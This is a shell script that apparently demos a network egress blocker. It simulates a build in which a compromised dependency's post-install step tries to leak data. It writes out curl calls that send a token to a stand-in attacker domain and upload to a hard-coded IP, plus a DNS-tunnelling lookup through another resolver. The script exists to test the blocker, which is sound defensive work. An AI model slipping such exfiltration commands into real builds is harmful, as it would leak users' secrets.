#!/bin/sh
# A sample build, as `make demo` runs it under `runwall exec` in block mode: it fetches its
# dependencies from the registry it is allowed to use, then a compromised post-install script
# tries what real supply-chain attacks did (Codecov, tj-actions, the npm worms).
echo "== fetching dependencies from the registry (allowed)"
curl -sf -m 5 -o /dev/null http://allowed.test:443/package.tgz && echo "   ok" || echo "   FAILED"
curl -sf -m 5 -o /dev/null http://www.allowed.test:443/left-pad.tgz && echo "   ok" || echo "   FAILED"
echo "== compiling"
sleep 0.2
echo "== post-install script of a compromised dependency"
echo "   exfiltrate to a known attacker domain (global block list)"
curl -sf -m 5 "http://evil.test:443/collect?token=ghp_demo" >/dev/null && echo "   reached!" || echo "   stopped"
echo "   exfiltrate to a hard-coded IP address"
curl -sf -m 5 "http://198.51.100.11:443/upload" >/dev/null && echo "   reached!" || echo "   stopped"
echo "   look up a name the build never needed"
curl -sf -m 5 "http://other.test:443/" >/dev/null && echo "   reached!" || echo "   stopped"
echo "   smuggle data through another DNS resolver"
dig +time=1 +tries=1 @203.0.113.53 c2VjcmV0.tunnel.test >/dev/null 2>&1 && echo "   reached!" || echo "   stopped"
echo "== build finished"
